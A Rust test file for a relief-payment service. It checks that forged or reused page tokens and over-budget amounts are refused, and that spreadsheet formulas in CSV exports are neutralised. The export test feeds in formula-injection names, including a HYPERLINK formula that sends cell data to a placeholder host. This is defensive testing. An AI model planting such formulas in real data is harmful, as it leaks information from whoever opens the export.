//! Requests crafted to slip past a bound: page tokens forged or carried to another list, amounts
//! beyond any budget, and text written to run as a formula in the spreadsheet of whoever opens
//! an export.

use relief_api::paging::ListKey;
use relief_proto::v1 as pb;
use relief_proto::v1::approval_service_client::ApprovalServiceClient;
use relief_proto::v1::disbursement_service_client::DisbursementServiceClient;
use relief_proto::v1::follow_up_service_client::FollowUpServiceClient;
use relief_proto::v1::ledger_service_client::LedgerServiceClient;
use relief_proto::v1::report_service_client::ReportServiceClient;
use relief_tests::{
    ApplicationBuilder, Backend, FURONG, Role, WANGCHENG, backend_tests, expect_code,
    expect_violations, spawn_app, with_bearer,
};
use tonic::{Code, Status};

use crate::approvals::channel;

backend_tests!(
    forged_cursors_are_refused_on_every_keyed_list,
    a_page_token_serves_only_the_list_and_filters_that_made_it,
    an_amount_beyond_any_budget_is_refused_at_intake,
    export_cells_that_would_run_as_formulas_are_neutralised,
);

fn refused<T: std::fmt::Debug>(result: Result<T, Status>, what: &str) {
    let status = expect_code(result, Code::InvalidArgument, what);
    assert_eq!(
        relief_tests::violation_fields(&status),
        ["page_token"],
        "{what}: {}",
        status.message()
    );
}

/// A row id of the form the service makes, that no row has.
const NO_ROW: &str = "0190a0b0-0000-7000-8000-000000000000";

async fn forged_cursors_are_refused_on_every_keyed_list(backend: Backend) {
    let app = spawn_app(backend).await;
    let head = app.token(WANGCHENG, &[Role::BureauHead], None, "head-li");
    let ch = channel(&app).await;
    let mut approvals = ApprovalServiceClient::new(ch.clone());
    let mut payments = DisbursementServiceClient::new(ch.clone());
    let mut ledger = LedgerServiceClient::new(ch.clone());
    let mut follow_ups = FollowUpServiceClient::new(ch.clone());
    let budget = |fiscal_year| pb::GetBudgetRequest {
        fiscal_year,
        ..Default::default()
    };
    let due = |date: &str| pb::ListDueFollowUpsRequest {
        due_on_or_before: date.to_owned(),
        ..Default::default()
    };
    // The digest a token carries is no secret: a caller can compute it. A key that is not
    // one the list writes (an offset of the old form, a time or date that is none, an id that
    // is not a row id) is refused all the same.
    let bad_time = format!("2022-13-01T00:00:00Z/{NO_ROW}");
    let bad_date = format!("2022-02-30/{NO_ROW}");
    let forged = [
        String::new(),
        "x".to_owned(),
        u64::MAX.to_string(),
        "2022-01-01T00:00:00Z/x".to_owned(),
        "2022-01-01/x".to_owned(),
        bad_time,
        bad_date,
    ];
    // Tokens of other lists, of this list with other filters and of another district.
    let cases_token = ListKey::of(WANGCHENG, &pb::ListCasesRequest::default()).token(NO_ROW);
    let other_year = ListKey::of(WANGCHENG, &budget(2021)).token("1");
    let other_date =
        ListKey::of(WANGCHENG, &due("2022-01-01")).token(&format!("2021-12-31/{NO_ROW}"));
    let elsewhere = ListKey::of(FURONG, &pb::ListMyTasksRequest::default())
        .token(&format!("2022-01-01T00:00:00Z/{NO_ROW}"));
    for (i, cursor) in forged.iter().enumerate() {
        let what = |list: &str| format!("{list} with key {cursor:?}");
        let req = pb::ListMyTasksRequest::default();
        let page_token = match i {
            0 => elsewhere.clone(),
            1 => cases_token.clone(),
            _ => ListKey::of(WANGCHENG, &req).token(cursor),
        };
        refused(
            approvals
                .list_my_tasks(with_bearer(
                    pb::ListMyTasksRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("ListMyTasks"),
        );
        let req = pb::ListOverdueRequest::default();
        let page_token = ListKey::of(WANGCHENG, &req).token(cursor);
        refused(
            approvals
                .list_overdue(with_bearer(
                    pb::ListOverdueRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("ListOverdue"),
        );
        let req = pb::ListDelegationsRequest::default();
        let page_token = ListKey::of(WANGCHENG, &req).token(cursor);
        refused(
            approvals
                .list_delegations(with_bearer(
                    pb::ListDelegationsRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("ListDelegations"),
        );
        let req = pb::ListPaymentsRequest::default();
        let page_token = match i {
            1 => cases_token.clone(),
            _ => ListKey::of(WANGCHENG, &req).token(cursor),
        };
        refused(
            payments
                .list_payments(with_bearer(
                    pb::ListPaymentsRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("ListPayments"),
        );
        let req = budget(2022);
        let page_token = match i {
            1 => other_year.clone(),
            _ => ListKey::of(WANGCHENG, &req).token(cursor),
        };
        refused(
            ledger
                .get_budget(with_bearer(
                    pb::GetBudgetRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("GetBudget"),
        );
        let req = due("2022-06-30");
        let page_token = match i {
            1 => other_date.clone(),
            _ => ListKey::of(WANGCHENG, &req).token(cursor),
        };
        refused(
            follow_ups
                .list_due_follow_ups(with_bearer(
                    pb::ListDueFollowUpsRequest { page_token, ..req },
                    &head,
                ))
                .await,
            &what("ListDueFollowUps"),
        );
    }
    // A key of the list's own form is a page, even one past every row.
    let req = pb::ListPaymentsRequest::default();
    let page_token = ListKey::of(WANGCHENG, &req).token(&format!("1970-01-01T00:00:00Z/{NO_ROW}"));
    let page = payments
        .list_payments(with_bearer(
            pb::ListPaymentsRequest { page_token, ..req },
            &head,
        ))
        .await
        .expect("a key past every row is a page")
        .into_inner();
    assert!(page.payments.is_empty() && page.next_page_token.is_empty());
    let req = budget(2022);
    let page_token = ListKey::of(WANGCHENG, &req).token(&i64::MAX.to_string());
    let page = ledger
        .get_budget(with_bearer(
            pb::GetBudgetRequest { page_token, ..req },
            &head,
        ))
        .await
        .expect("an entry id past every entry is a page")
        .into_inner();
    assert!(page.entries.is_empty() && page.next_page_token.is_empty());
}

async fn a_page_token_serves_only_the_list_and_filters_that_made_it(backend: Backend) {
    let app = spawn_app(backend).await;
    let clerk = app.applicant(WANGCHENG, "gaotangling");
    for name in ["张三", "李四", "王五"] {
        clerk
            .draft(ApplicationBuilder::new().name(name).build())
            .await;
    }
    let drafts = pb::ListCasesRequest {
        page_size: 1,
        state: pb::CaseState::Draft as i32,
        ..Default::default()
    };
    let first = clerk.list_cases(drafts.clone()).await.unwrap();
    assert_eq!(first.cases.len(), 1);
    let token = first.next_page_token;
    assert!(!token.is_empty());
    // The same list with the same filters goes on, whatever the page size.
    let next = clerk
        .list_cases(pb::ListCasesRequest {
            page_size: 5,
            page_token: token.clone(),
            ..drafts.clone()
        })
        .await
        .unwrap();
    assert_eq!(next.cases.len(), 2);
    assert_ne!(next.cases[0].case_id, first.cases[0].case_id);
    // Other filters, another list, another district: refused, not silently a different page.
    refused(
        clerk
            .list_cases(pb::ListCasesRequest {
                page_size: 1,
                page_token: token.clone(),
                fiscal_year: 2022,
                ..drafts.clone()
            })
            .await,
        "the case list with another filter",
    );
    refused(
        clerk
            .list_cases(pb::ListCasesRequest {
                page_token: token.clone(),
                ..Default::default()
            })
            .await,
        "the case list without the state filter",
    );
    let finance = app.token(WANGCHENG, &[Role::Finance], None, "finance-zhou");
    refused(
        DisbursementServiceClient::new(channel(&app).await)
            .list_payments(with_bearer(
                pb::ListPaymentsRequest {
                    page_token: token.clone(),
                    ..Default::default()
                },
                &finance,
            ))
            .await,
        "the payment list",
    );
    let elsewhere = app.applicant(FURONG, "gaotangling");
    refused(
        elsewhere
            .list_cases(pb::ListCasesRequest {
                page_token: token.clone(),
                ..drafts.clone()
            })
            .await,
        "the same list in another district",
    );
    // A token in the form of an older build, and bytes that are no token.
    let bare = base64_token("case:0190a0b0-0000-7000-8000-000000000000");
    for forged in [bare.as_str(), "!!", "Y2FzZQ"] {
        refused(
            clerk
                .list_cases(pb::ListCasesRequest {
                    page_token: forged.to_owned(),
                    ..drafts.clone()
                })
                .await,
            forged,
        );
    }
}

fn base64_token(text: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text)
}

async fn an_amount_beyond_any_budget_is_refused_at_intake(backend: Backend) {
    let app = spawn_app(backend).await;
    let clerk = app.applicant(WANGCHENG, "gaotangling");
    // Above the hard ceiling: refused even as a draft.
    for fen in [i64::MAX, 1_000_000_001] {
        expect_violations(
            clerk
                .create_case(ApplicationBuilder::new().amount_fen(fen).build())
                .await,
            &["application.requested_amount_fen"],
            "an amount above the ceiling",
        );
    }
    // Above the fiscal year's whole budget (1,280,000 yuan): a draft may hold it while it is
    // being written, but it cannot go into review.
    let over_budget = ApplicationBuilder::new()
        .amount_fen(128_000_001)
        .over_cap_justification("家庭遭遇重大变故")
        .build();
    let draft = clerk.draft(over_budget).await;
    let status = expect_code(
        clerk.submit(&draft.case_id).await,
        Code::InvalidArgument,
        "an amount above the year's budget",
    );
    assert_eq!(
        relief_tests::violation_fields(&status),
        ["application.requested_amount_fen"]
    );
    assert!(status.message().contains("budget"), "{}", status.message());
    assert_eq!(
        relief_tests::state(&clerk.get_case(&draft.case_id).await.unwrap()),
        pb::CaseState::Draft
    );
    // The whole budget itself is a possible (if unusual) request.
    let at_budget = ApplicationBuilder::new()
        .amount_fen(128_000_000)
        .over_cap_justification("家庭遭遇重大变故")
        .build();
    let draft = clerk.draft(at_budget).await;
    clerk
        .submit(&draft.case_id)
        .await
        .expect("the whole budget may be asked for");
}

async fn export_cells_that_would_run_as_formulas_are_neutralised(backend: Backend) {
    let app = spawn_app(backend).await;
    let clerk = app.applicant(WANGCHENG, "gaotangling");
    let names = [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
    ];
    for name in names {
        clerk
            .submitted(ApplicationBuilder::new().name(name).build())
            .await;
    }
    let head = app.token(WANGCHENG, &[Role::BureauHead], None, "head-li");
    let csv = ReportServiceClient::new(channel(&app).await)
        .export_cases(with_bearer(
            pb::ExportCasesRequest {
                fiscal_year: 2022,
                ..Default::default()
            },
            &head,
        ))
        .await
        .unwrap()
        .into_inner()
        .csv;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "recipient_name")
        .unwrap();
    let mut exported: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_owned())
        .collect();
    exported.sort();
    let mut expected: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    expected.sort();
    assert_eq!(exported, expected, "every formula is shown as text");
    // Amounts stay numbers.
    assert!(csv.lines().skip(1).all(|l| !l.contains(",'2")), "{csv}");
}
